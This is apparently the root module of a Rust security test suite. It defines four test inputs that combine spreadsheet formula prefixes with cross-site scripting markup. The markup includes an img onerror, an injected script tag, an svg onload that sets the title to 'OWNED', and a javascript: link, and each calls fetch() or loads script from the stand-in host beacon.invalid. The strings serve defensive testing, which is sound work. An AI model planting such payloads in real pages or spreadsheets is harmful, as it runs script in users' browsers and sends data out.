//! Hostile content: it never runs, never floods, never passes the antivirus, and is never a formula.
//!
//! All words that people can write hold a payload, in four counties that begin theirs in four ways.

#![expect(
    clippy::unwrap_used,
    clippy::indexing_slicing,
    clippy::as_conversions,
    reason = "a test that panics says where"
)]

mod antivirus;
mod beacon;
mod bombs;
#[path = "../browser/chromium.rs"]
#[expect(dead_code, reason = "the tests of the browser use more of it")]
mod chromium;
#[path = "../leaks/city.rs"]
#[expect(dead_code, reason = "the test of leaks uses more of it")]
mod city;
#[path = "../api/client.rs"]
#[expect(dead_code, reason = "the tests of the API use more of it")]
mod client;
mod files;
mod formulas;
#[path = "../intake/making.rs"]
#[expect(dead_code, reason = "the tests of intake use more of it")]
mod making;
#[path = "../api/multipart.rs"]
mod multipart;
#[path = "../web/office.rs"]
#[expect(dead_code, reason = "the tests of pages use more of it")]
mod office;
mod pages;
mod planted;
#[path = "../programs/mod.rs"]
mod programs;

/// The counties, and what all words of each begin with: as a formula, and as markup that calls home.
pub(crate) const COUNTIES: [(&str, &str); 4] = [
    ("c1", "=1+1\"><img src=x onerror=fetch(`http://beacon.invalid/one`)>"),
    ("c2", "+1+1</title></script><script src=http://beacon.invalid/two></script>"),
    ("c3", "-1+1--><svg onload=document.title=`OWNED`;alert(3);fetch(`http://beacon.invalid/three`)>"),
    ("c4", "@SUM(1)]]>{{this}}<a href=javascript:fetch(`http://beacon.invalid/four`)>"),
];
